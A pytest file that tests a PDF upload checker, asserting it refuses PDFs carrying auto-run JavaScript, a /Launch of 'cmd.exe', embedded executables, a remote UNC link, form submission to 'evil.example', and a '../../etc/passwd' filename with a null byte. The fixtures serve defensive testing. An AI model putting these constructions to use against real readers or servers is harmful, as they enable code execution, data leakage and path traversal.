"""Checking uploaded PDFs: what runs something is refused, what only looks like it is not."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from formservice.uploads import UploadRefused, check_pdf


def _pdf(change=None, text: bytes = b"BT /F1 12 Tf 20 100 Td (Revisors beretning) Tj ET") -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    content = DecodedStreamObject()
    content.set_data(text)
    page[NameObject("/Contents")] = writer._add_object(content)
    if change:
        change(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _refused(content: bytes) -> str:
    with pytest.raises(UploadRefused) as refused:
        check_pdf(content, "vedlegg.pdf")
    return refused.value.text["nb"]


def _action(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def test_a_plain_pdf_passes_and_keeps_a_safe_name():
    checked = check_pdf(_pdf(), "../../etc/passwd\x00.pdf")
    assert (
        checked.pages == 1
        and "/" not in checked.display_name
        and "\x00" not in checked.display_name
    )


def test_a_name_with_characters_no_font_draws_is_shown_with_underscores_for_them():
    checked = check_pdf(_pdf(), "Plan \U0001e290 田中 𠀀 👩🏽\u202e.pdf")
    assert checked.display_name == "Plan _ 田中 𠀀 👩🏽.pdf"  # Toto has no font; RLO is dropped


def test_words_like_javascript_in_the_text_of_a_page_are_not_a_script():
    # The bytes "/JS" and "/Launch" occur in this page's content; a byte search refused it.
    content = _pdf(text=b"BT /F1 12 Tf 20 100 Td (/JS /Launch /JavaScript /EmbeddedFile) Tj ET")
    assert b"/JS" in content
    assert check_pdf(content, "rapport.pdf").pages == 1


def _open_action(writer, page):
    writer._root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)")
    )


def _link_chaining_to_a_script(writer, page):
    script = _action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    link = _action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=ArrayObject([]),
        A=_action(S=NameObject("/URI"), URI=TextStringObject("https://x"), Next=script),
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _launch(writer, page):
    writer._root_object[NameObject("/OpenAction")] = _action(
        S=NameObject("/Launch"), F=TextStringObject("cmd.exe")
    )


def _attached_file(writer, page):
    writer.add_attachment("virus.exe", b"MZ")


def _file_annotation(writer, page):
    note = _action(Type=NameObject("/Annot"), Subtype=NameObject("/FileAttachment"))
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def _link(action: DictionaryObject):
    def change(writer, page):
        link = _action(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=ArrayObject([]),
                       A=action)  # fmt: skip
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return change


_go_to_remote = _link(_action(S=NameObject("/GoToR"), F=TextStringObject("\\\\evil\\share\\x.pdf")))
_submit_form = _link(
    _action(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/"))
)


def _field_with_actions(writer, page):
    """A text field, not on any page, whose keystroke action runs a script."""
    field = _action(FT=NameObject("/Tx"), T=TextStringObject("navn"),
                    AA=_action(K=_action(S=NameObject("/JavaScript"), JS=TextStringObject("x"))))  # fmt: skip
    fields = ArrayObject([writer._add_object(field)])
    writer._root_object[NameObject("/AcroForm")] = _action(Fields=fields)


def _kid_with_an_action(writer, page):
    """A field's kid widget whose click submits the form somewhere."""
    kid = _action(Subtype=NameObject("/Widget"),
                  A=_action(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/")))  # fmt: skip
    parent = _action(FT=NameObject("/Btn"), T=TextStringObject("godtar"),
                     Kids=ArrayObject([writer._add_object(kid)]))  # fmt: skip
    writer._root_object[NameObject("/AcroForm")] = _action(
        Fields=ArrayObject([writer._add_object(parent)])
    )


def _bookmark_launching(writer, page):
    item = writer._add_object(_action(Title=TextStringObject("Start"),
                                      A=_action(S=NameObject("/GoToE"))))  # fmt: skip
    writer._root_object[NameObject("/Outlines")] = _action(First=item, Last=item)


@pytest.mark.parametrize(
    "change", [_open_action, _link_chaining_to_a_script, _launch, _attached_file, _file_annotation,
               _go_to_remote, _submit_form, _field_with_actions, _kid_with_an_action,
               _bookmark_launching],
)  # fmt: skip
def test_scripts_launches_and_embedded_files_are_refused(change):
    assert "skript eller innebygde filer" in _refused(_pdf(change))


def test_not_a_pdf_empty_too_big_and_encrypted_are_refused_with_their_reason():
    assert "ikke en PDF" in _refused(b"MZ\x90 an exe named .pdf")
    assert "ikke en PDF" in _refused(b"%PDF-1.7 and then nothing a reader can use")
    assert "tom" in _refused(b"")
    with pytest.raises(UploadRefused, match="for stor"):
        check_pdf(_pdf(), "stor.pdf", max_bytes=100)

    def encrypt(writer, page):
        writer.encrypt("hemmelig")

    assert "passord" in _refused(_pdf(encrypt))
